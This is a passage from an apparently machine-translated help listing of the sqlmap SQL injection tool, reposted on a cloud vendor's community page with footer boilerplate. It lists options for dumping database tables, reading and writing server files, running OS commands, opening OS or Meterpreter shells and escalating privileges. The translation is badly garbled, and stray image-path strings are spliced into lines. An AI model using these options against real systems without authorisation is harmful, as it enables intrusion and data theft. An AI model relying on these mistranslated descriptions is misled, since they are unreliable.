    --count retrieve the number oftable entries
    --dump Dump DBMS database table entries
    --dump-all Dump all entries in the DBMS database table
    --search search column (S), table (S) and / or database name (S)
    -D DBMS database enumeration
    -T DBMS database table enumeration
    -C List of DBMS database tables
    -U user DBMS user enumeration
    --exclude-sysdbs DBMS system database
    --start = LIMITSTARTRetrieve the output of the first query
    --stop = LIMITSTOP retrieve the output of the last query
    --first = FIRSTCHAR First query output word character retrieval
    --last = LASTCHAR Character search for the output word of the last query
    --sql-query = QUERY
    --sql-shell prompt next interactive SQL shell
 Brute force:
   These options can be used to run brute force checks.
 User-defined function injection:
   These options can be used to create user-defined functions.
    --udf-inject Inject user-defined functions
    --shared-lib = SHLIB shared library for local path
 File system access:
   These options can be used to access back-end database management
   The underlying file system of the system.
    --file-read = RFILE Read file from DBMS file system
    --file-write = WFILE write a local file on the backend DBMS file system
    --file-dest = DFILE absolute file path write of back-end databaseOperating system access:
   These options can be used to access back-end database management
   The underlying operating system of the system.
    --os-cmd = OSCMD execute operating system commands
    --os-shell prompt interactive operating system shell
    --os-pwn prompt for a downright shell with meterpreter or VNC
     --os-smbrelay One click prompt an OOB shell, meterpreter or VNC
     --os-bof stored procedure buffer overflow exploitation
    --priv-esc database process "user privilege escalation--msf-path = MSFPATH local path Metasploit Framework etc. 3 installation
    --tmp-path = TMPPATH Remote absolute path temporary file directory
 Windows registry access:
   These options can be used to access back-end database management
   System Windows Registry.
    --reg-read Read Windows registry key values
    --reg-add write a Windows registry key value data
eg-delL delete Windows registry keys
    --reg-key = REGKEY Windows Registry
    --reg-value = REGVAL Windows registry key
    --reg-data = REGDATA Windows registry key value data
    --reg-type = REGTYPE Windows registry key value type
   These options can be used to set some general working parameters.
   -s save and restore retrieve all data in meeting files
   -t login to all HTTP traffic in a text file
   --batch batch never ask for user input, use default behavior
   --charset = CHARSET character encoding for data retrieval
   --eta shows estimated arrival time for each output
   --flush-session flush meeting session files
   --fresh-queries query results stored in conference files
   --save configure INI file save options--update updated SqlMap
    --beep SQL injection found
    --check-payload IDS detection test to check thepayload
    --cleanup Clean up DBMS for SqlMap specific UDFs and tables
     --forms Parse and test the target URL of the form
     --gpage = GOOGLEPAGE dork results from the specified page number using Google
    --mobile via HTTP User-Agent header
    --page-rank Display page rank (PR) for Google dork results
    --parse-errors Parse error messages from DBMS response pages
    --replicate Copy data into a SQLite3 database
    --tor uses the default Tor (Vidalia / Privoxy / Polipo can be) proxy address
    --wizard wizard simple wizard interface for beginner users

Contact Us

The content source of this page is from Internet, which doesn't represent Alibaba Cloud's opinion; products and services mentioned on that pagedon't have any relationship with Alibaba Cloud. If the content of the page makes you feel confusing, please write us an email, we will handle the problem within 5 days after receiving your email.

If you find any instances of plagiarism from the community, please send an email to: info-contact@alibabacloud.com and provide relevant evidence. A staff member will contact you within 5 working days.

A Free Trial That Lets You Build Big!

Start building with 50+ products and up to 12 months usage for Elastic Compute Service

  • Sales Support1 on 1 presale consultation

  • After-Sales Support

    24/7Technical Support 6 Free Tickets per Quarter Faster Response

  • Alibaba Cloud offers highly flexible supportservices tailored to meet your exact needs.